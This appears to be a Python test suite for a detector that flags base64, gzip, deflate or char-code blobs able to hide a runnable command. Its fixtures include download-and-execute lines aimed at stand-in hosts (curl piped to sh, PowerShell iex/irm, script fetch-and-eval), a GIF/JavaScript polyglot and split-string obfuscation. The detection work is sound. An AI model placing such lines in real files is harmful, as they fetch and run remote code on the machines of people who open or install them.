"""What a blob is: data that cannot run, or something that could hide a command (blobs.py)."""

from __future__ import annotations

import base64
import gzip
import json
import random
import zlib

from hypothesis import given, settings
from hypothesis import strategies as st

from app.detection.blobs import (
    ASSUME_THE_WORST,
    Cues,
    blob_is_live,
    bytes_are_live,
    first_by_risk,
    pieces_are_live,
)
from app.detection.blobs import live_runs as _live_runs
from tests.app.detection import bigtexts

FOREVER = float("inf")
NO_CUES = Cues(raw_deflate=False, char_codes=False)
SCRIPT = bigtexts.SHELL_SCRIPT.encode()
RNG = random.Random(7)


def b64(data: bytes) -> bytes:
    return base64.b64encode(data)


def test_images_fonts_archives_and_documents_are_data() -> None:
    for make in (
        bigtexts.png,
        bigtexts.jpeg,
        bigtexts.gif,
        bigtexts.webp,
        bigtexts.woff,
        bigtexts.woff2,
        bigtexts.truetype,
        bigtexts.pdf,
        bigtexts.zip_archive,
        bigtexts.gzip_data,
    ):
        blob = b64(make(RNG, 40_000))
        assert not blob_is_live(blob, NO_CUES), make.__name__


def test_a_script_after_an_image_or_behind_its_header_is_live() -> None:
    image = bigtexts.png(RNG, 30_000)
    assert blob_is_live(b64(image + b"\n" + SCRIPT), NO_CUES)  # after IEND
    assert blob_is_live(b64(image[:33] + SCRIPT * 3), NO_CUES)  # a header, then text
    polyglot = b"GIF89a/*\x01\x00\x01\x00\x00\xff\xff\xff,*/=1;fetch('https://evil.test/p');"
    assert blob_is_live(b64(polyglot), NO_CUES)


def test_structured_data_is_live_for_a_command_not_for_its_brackets_and_addresses() -> None:
    claims = {"iss": "https://login.example.org/", "sub": "42", "scp": ["openid", "email"]}
    assert not bytes_are_live(json.dumps(claims).encode())
    login = json.dumps(
        {"auths": {"r.example.org": {"auth": b64(b"robot:5f3a9c2e1b7d4a6f8e0c").decode()}}}
    )
    assert not bytes_are_live(login.encode())
    assert bytes_are_live(json.dumps({"postinstall": "curl -s https://x.test/i | sh"}).encode())
    inner = b64("iex (irm https://evil.test/a)".encode("utf-16-le")).decode()
    assert bytes_are_live(json.dumps({"data": inner}).encode())  # a live blob inside
    assert bytes_are_live(b"<script>fetch('https://evil.test/p').then(eval)</script>")
    pem = b"-----BEGIN CERTIFICATE-----\n" + base64.encodebytes(RNG.randbytes(900))
    assert not bytes_are_live(pem + b"-----END CERTIFICATE-----\n")


def test_plain_text_stays_live_for_an_address_or_shell_punctuation() -> None:
    assert bytes_are_live(b"https://evil.test/stage.ps1")
    assert bytes_are_live(b"a=cu;b=rl; $a$b -s x|sh")
    assert bytes_are_live("iex (irm https://evil.test/a)".encode("utf-16-le"))
    assert not bytes_are_live(b"just some ordinary words here")


def test_gzip_is_judged_by_what_it_inflates_to() -> None:
    assert bytes_are_live(gzip.compress(SCRIPT, mtime=0))
    assert not bytes_are_live(gzip.compress(RNG.randbytes(5000), mtime=0))
    assert not bytes_are_live(b"\x1f\x8b" + RNG.randbytes(100))  # not gzip after all


def test_raw_deflate_is_tried_only_where_the_text_names_a_decompressor() -> None:
    squeezed = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw = squeezed.compress(SCRIPT * 3) + squeezed.flush()
    assert blob_is_live(b64(raw), ASSUME_THE_WORST)
    assert not blob_is_live(b64(raw), NO_CUES)
    cues = Cues.of(
        b"$s=New-Object IO.Compression.DeflateStream($m,[IO.Compression.CompressionMode]::Decompress)"
    )
    assert cues.raw_deflate
    # base64 spells such words by chance, but seldom as a word of its own
    assert not Cues.of(bigtexts.png_data_uri(256 * 1024).encode()).raw_deflate


def test_lists_of_numbers_are_blobs_only_where_something_turns_them_into_text() -> None:
    codes = ",".join(str(ord(c)) for c in "iex(irm https://evil.test/a.ps1)").encode()
    assert blob_is_live(codes, Cues(raw_deflate=False, char_codes=True))
    assert not blob_is_live(codes, NO_CUES)
    assert Cues.of(b"iex (-join [char[]]$c)").char_codes
    assert not Cues.of(bigtexts.csv_numbers(64 * 1024).encode()).char_codes


def test_runs_weighed_together_agree_with_one_by_one() -> None:
    runs = [b64(RNG.randbytes(RNG.randrange(24, 200))) for _ in range(300)]
    runs += [
        b64(SCRIPT),
        b64(b"powershell -enc " + b"A" * 40),
        bigtexts.encoded_powershell().encode(),
    ]
    runs += [b64(json.dumps({"sub": str(i)}).encode()) for i in range(50)]
    runs += [SCRIPT.hex().encode(), RNG.randbytes(40).hex().encode()]
    runs = [r.rstrip(b"=") for r in runs]
    live, unreached = _live_runs(runs, FOREVER, False)
    assert not unreached
    assert set(live) == {r for r in runs if blob_is_live(r, NO_CUES)}
    assert {b64(SCRIPT).rstrip(b"="), SCRIPT.hex().encode()} <= set(live)


def test_a_decoders_candidates_with_a_command_come_first_when_there_are_too_many() -> None:
    noise = [f"<< /Type /Page /Parent {i} 0 R >>" for i in range(30)]
    taken = first_by_risk(iter([*noise, "curl -s https://x.test/i | sh"]), 12)
    assert len(taken) == 12 and taken[0].startswith("curl")
    assert first_by_risk(iter(noise[:5]), 12) == noise[:5]  # as many as it reads: as they come


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=3000), st.booleans(), st.booleans())
def test_the_classifier_never_raises_on_arbitrary_bytes(
    data: bytes, deflate: bool, codes: bool
) -> None:
    cues = Cues(raw_deflate=deflate, char_codes=codes)
    assert isinstance(bytes_are_live(data, deflate), bool)
    assert isinstance(blob_is_live(data, cues), bool)
    assert isinstance(Cues.of(data), Cues)
    for cut in (0, 1, len(data) // 2):
        assert pieces_are_live([data[cut:], data[:cut]], deflate) is not None


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(alphabet="ABCabc019+/_-=", min_size=32, max_size=200), max_size=30))
def test_runs_weighed_in_bulk_never_raise(runs: list[str]) -> None:
    encoded = [r.encode() for r in runs]
    live, unreached = _live_runs(encoded, FOREVER, True)
    assert not unreached and set(live) <= set(encoded)
